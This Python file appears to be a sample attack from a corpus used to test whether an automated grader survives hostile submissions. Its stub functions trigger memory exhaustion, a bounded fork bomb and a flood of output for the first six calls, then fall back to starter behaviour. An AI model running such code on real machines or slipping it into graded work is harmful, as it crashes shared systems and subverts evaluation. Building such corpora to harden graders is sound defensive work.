"""Attack: exhaust memory, processes and output, hoping to take the grader down with it.

Every call is a new chance to hurt the grader, but a handful shows whether it survives: after the first
6 calls the attack answers as the starter does, so that the corpus stays cheap to run."""
# base: starter
import os
import sys

import torch

CALLS = [0]


def attack(*args, **kwargs):
    CALLS[0] += 1
    if CALLS[0] > 6:
        raise NotImplementedError
    kind = CALLS[0] % 3
    if kind == 0:
        hog = []
        while True:
            hog.append(bytearray(1 << 28))
    if kind == 1:
        children = 0
        while children < 10000:
            try:
                if os.fork() == 0:
                    import time

                    time.sleep(60)
                    os._exit(0)
                children += 1
            except OSError:
                break
    chunk = "x" * (1 << 20)
    for _ in range(200):
        sys.stdout.write(chunk)
    return torch.zeros(1)


def __getattr__(name):
    return attack
